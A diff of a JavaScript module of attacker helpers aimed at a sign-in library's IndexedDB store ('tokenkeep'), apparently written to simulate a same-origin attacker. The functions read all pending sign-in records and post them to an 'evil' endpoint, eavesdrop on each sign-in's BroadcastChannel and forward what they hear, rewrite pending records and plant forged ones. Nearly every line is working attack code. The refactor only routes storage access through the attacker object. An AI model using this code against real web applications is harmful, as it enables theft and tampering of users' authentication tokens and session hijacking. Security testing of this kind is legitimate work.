@@ -2,14 +2,9 @@
 
 /** Listens and speaks on the channels of all sign-ins under way; what is heard goes to the attacker. */
 export async function joinChannels(evil, { words }) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const database = await settled(indexedDB.open("tokenkeep", 1));
-  const store = database.transaction("transactions").objectStore("transactions");
-  const [all, values] = [await settled(store.getAllKeys()), await settled(store.getAll())];
-  database.close();
-  const keys = all.filter((_, index) => values[index].record);
-  await evil.post({ names: keys, records: values.map(({ record }) => record) });
+  const all = await evil.records();
+  const keys = all.filter(([, { record }]) => record).map(([key]) => key);
+  await evil.post({ names: keys, records: all.map(([, { record }]) => record) });
   for (const key of keys) {
     const channel = new BroadcastChannel(`tokenkeep-${key}`);
     channel.addEventListener("message", ({ data }) => evil.post({ heard: data }));
@@ -45,29 +40,12 @@ export async function stealLocks(evil) {
 
 /** Rewrites the record of every sign-in under way. */
 export async function rewriteRecords(evil, changes) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const database = await settled(indexedDB.open("tokenkeep", 1));
-  const store = database.transaction("transactions", "readwrite").objectStore("transactions");
-  const [keys, values] = [await settled(store.getAllKeys()), await settled(store.getAll())];
   // One that was used has a mark in its place.
-  const pending = [...keys.entries()].filter(([index]) => values[index].record);
-  for (const [index, key] of pending) {
-    const record = JSON.stringify({ ...JSON.parse(values[index].record), ...changes });
-    await settled(store.put({ ...values[index], record }, key));
-  }
-  database.close();
+  const pending = (await evil.records()).filter(([, { record }]) => record);
+  const rewritten = ([key, value]) => [key, { ...value, record: JSON.stringify({ ...JSON.parse(value.record), ...changes }) }];
+  await evil.plantRecords(pending.map(rewritten));
   return pending.length;
 }
 
 /** Puts these `[key, value]` into the store. */
-export async function plantRecords(evil, records) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const opening = indexedDB.open("tokenkeep", 1);
-  opening.onupgradeneeded = () => opening.result.createObjectStore("transactions");
-  const database = await settled(opening);
-  const store = database.transaction("transactions", "readwrite").objectStore("transactions");
-  for (const [key, value] of records) await settled(store.put(value, key));
-  database.close();
-}
+export const plantRecords = (evil, records) => evil.plantRecords(records);
